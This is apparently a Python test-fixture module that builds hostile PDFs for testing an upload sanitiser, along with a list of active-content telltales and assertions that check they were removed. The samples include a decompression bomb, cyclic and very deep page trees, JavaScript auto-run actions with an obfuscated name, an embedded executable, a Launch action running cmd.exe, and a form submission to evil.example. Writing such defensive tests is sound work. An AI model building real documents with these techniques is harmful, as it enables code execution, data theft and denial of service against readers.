"""Hostile files for the upload tests, built byte by byte (the shapes of pypdf's CVEs since 2025)."""

from __future__ import annotations

import io
import zlib

from pypdf import PdfReader
from pypdf.generic import ArrayObject


def raw_pdf(objects: list[bytes], *, root: int = 1, truncate_xref: bool = False) -> bytes:
    """A PDF from numbered object bodies (1-based), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        xref,
    )
    return bytes(out)


def decompression_bomb(inflated_mb: int = 128) -> bytes:
    """One page whose content stream inflates from about 0.5 MB to inflated_mb of zeros."""
    compressor = zlib.compressobj(9)
    block = b"\0" * (1024 * 1024)
    data = b"".join(compressor.compress(block) for _ in range(inflated_mb)) + compressor.flush()
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream"
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            stream,
        ]
    )


def cyclic_page_tree() -> bytes:
    """A page tree whose node lists itself (and its parent) among its kids."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1 >>",
        ]
    )


def deep_page_tree(depth: int = 5000) -> bytes:
    """A chain of page-tree nodes thousands deep (stack exhaustion in a recursive reader)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):
        number = level + 2
        objects.append(b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 1))
    objects.append(b"<< /Type /Page /MediaBox [0 0 595 842] >>")
    return raw_pdf(objects)


def active_content_pdf(text: str = "Bao cao ket qua") -> bytes:
    """Two readable pages carrying every kind of active content a reader might run by itself.

    A JavaScript /OpenAction, the catalog's and a page's /AA, a /Names /JavaScript tree (its name
    spelled /Java#53cript, as malware does to dodge byte-matching filters), an embedded file and a
    FileAttachment annotation, an XFA form with a field that runs a script on focus, a bookmark
    that runs a script, links that Launch a program, open a remote file, submit a form and run a
    `javascript:` URI (with a stray tab), and one plain web link and one GoTo link that are kept.
    """
    js = b"<< /S /JavaScript /JS (app.alert\\('pwned'\\)) >>"
    content = b"BT /F1 14 Tf 72 760 Td (%s) Tj ET" % text.encode("latin-1")
    stream = b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"
    attached = b"MZ pretend this is an executable"
    embedded = b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(attached) + attached
    embedded += b"\nendstream"
    return raw_pdf(
        [
            # 1 catalog
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R >>"
            b" /Names << /Java#53cript 6 0 R /EmbeddedFiles 8 0 R >>"
            b" /AcroForm << /Fields [11 0 R] /XFA 12 0 R /NeedsRendering true >>"
            b" /Outlines 13 0 R >>",
            # 2 pages
            b"<< /Type /Pages /Kids [3 0 R 15 0 R] /Count 2 >>",
            # 3 page one, with an /AA and the annotations
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            b" /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
            b" >> >> /AA << /O 5 0 R >>"
            b" /Annots [10 0 R 11 0 R 16 0 R 17 0 R 18 0 R 19 0 R 20 0 R 21 0 R] >>",
            # 4 page one's text
            stream,
            # 5 the script run on open
            js,
            # 6 the document-level scripts (a name tree)
            b"<< /Names [(init) 7 0 R] >>",
            # 7
            js,
            # 8 embedded files (a name tree) and 9 the file itself
            b"<< /Names [(payload.exe) << /Type /Filespec /F (payload.exe) /EF << /F 9 0 R >> >>] >>",
            embedded,
            # 10 a FileAttachment annotation
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20]"
            b" /FS << /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >> >>",
            # 11 a form field (and its widget) that runs a script on focus
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 600 300 620]"
            b" /P 3 0 R /AA << /Fo 7 0 R >> >>",
            # 12 XFA
            b"<< /Length 20 >>\nstream\n<xdp:xdp></xdp:xdp>\nendstream",
            # 13 bookmarks, 14 a bookmark that runs a script
            b"<< /Type /Outlines /First 14 0 R /Last 14 0 R /Count 1 >>",
            b"<< /Title (Muc luc) /Parent 13 0 R /A 7 0 R >>",
            # 15 page two, plain
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            b" /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
            b" >> >> >>",
            # 16..21 links
            b"<< /Type /Annot /Subtype /Link /Rect [72 500 200 520]"
            b" /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
            b"<< /Type /Annot /Subtype /Link /Rect [72 470 200 490]"
            b" /A << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >> >>",
            b"<< /Type /Annot /Subtype /Link /Rect [72 440 200 460]"
            b" /A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/collect) >> >> >>",
            b"<< /Type /Annot /Subtype /Link /Rect [72 410 200 430]"
            b" /A << /S /URI /URI (java\\tscript:app.alert\\(1\\)) >> >>",
            b"<< /Type /Annot /Subtype /Link /Rect [72 380 200 400]"
            b" /A << /S /URI /URI (https://thuvienphapluat.vn/) >> >>",
            b"<< /Type /Annot /Subtype /Link /Rect [72 350 200 370] /A << /S /GoTo /D [15 0 R /Fit] >> >>",
        ]
    )


def long_action_chain(length: int = 5000) -> bytes:
    """A page link whose action is a harmless GoTo followed, thousands of /Next later, by a
    script: a reader that stops looking after a while would keep the link."""
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]"
        b" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A 4 0 R >>] >>"
    )
    actions = [
        b"<< /S /GoTo /D [3 0 R /Fit] /Next %d 0 R >>" % (number + 1)
        for number in range(4, 4 + length - 1)
    ]
    actions.append(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
            *actions,
        ]
    )


# What would betray active content in a file written without object streams (checked below).
TELLTALES = (
    b"/JavaScript",
    b"/JS",
    b"app.alert",
    b"/OpenAction",
    b"/AA",
    b"/Launch",
    b"/GoToR",
    b"/SubmitForm",
    b"/EmbeddedFile",
    b"/FileAttachment",
    b"MZ pretend",
    b"/XFA",
    b"xdp:xdp",
    b"javascript:",
    b"java\tscript",
)


def assert_no_active_content(data: bytes) -> PdfReader:
    """No trace in the bytes, and none in the document pypdf reads from them."""
    # Byte-matching is only meaningful when no object hides in a compressed object stream.
    assert b"/ObjStm" not in data
    found = [telltale for telltale in TELLTALES if telltale in data]
    assert not found, found
    reader = PdfReader(io.BytesIO(data))
    root = reader.root_object
    assert "/OpenAction" not in root
    assert "/AA" not in root
    names = root.get("/Names")
    assert names is None or not {"/JavaScript", "/EmbeddedFiles"} & set(names.keys())
    assert "/XFA" not in root.get("/AcroForm", {})
    for page in reader.pages:
        assert "/AA" not in page
        for annotation in page.get("/Annots", ArrayObject()):
            annotation = annotation.get_object()
            assert annotation["/Subtype"] != "/FileAttachment"
            assert "/AA" not in annotation
            action = annotation.get("/A")
            if action is not None:
                assert action["/S"] in ("/URI", "/GoTo"), action
    return reader
